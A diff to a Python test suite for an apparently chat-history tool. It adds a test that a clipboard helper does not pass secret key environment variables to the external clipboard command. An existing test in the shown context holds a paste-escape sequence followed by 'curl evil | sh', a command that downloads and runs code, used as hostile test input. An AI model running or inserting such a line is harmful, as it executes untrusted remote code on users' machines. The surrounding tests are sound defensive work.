@@ -154,3 +154,21 @@ def test_copy_puts_no_escape_on_the_clipboard_and_says_what_it_left_out(
     assert clip.read_text(encoding="utf-8") == "ls[201~\ncurl evil | sh\n"
     assert ("copied code block 1 (23 characters) with clipboard_command; 1 control character"
             " left out") in result.stderr
+
+
+def test_the_clipboard_command_runs_without_the_history_key(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """clipboard_command inherited CHATMEM_KEY, which it never needs."""
+    from chatmem.clipboard import copy_with_command
+
+    seen = tmp_path / "env.txt"
+    tool = tmp_path / "clip.sh"
+    tool.write_text(f"#!/bin/sh\nenv > '{seen}'\ncat >> '{seen}'\n", encoding="utf-8")
+    tool.chmod(0o755)
+    monkeypatch.setenv("CHATMEM_KEY", "门禁-secret-4412")
+    monkeypatch.setenv("CHATMEM_NEW_KEY", "next-secret")
+    copy_with_command(str(tool), "杭州")
+    written = seen.read_text(encoding="utf-8")
+    assert written.endswith("杭州") and "PATH=" in written
+    assert "secret" not in written
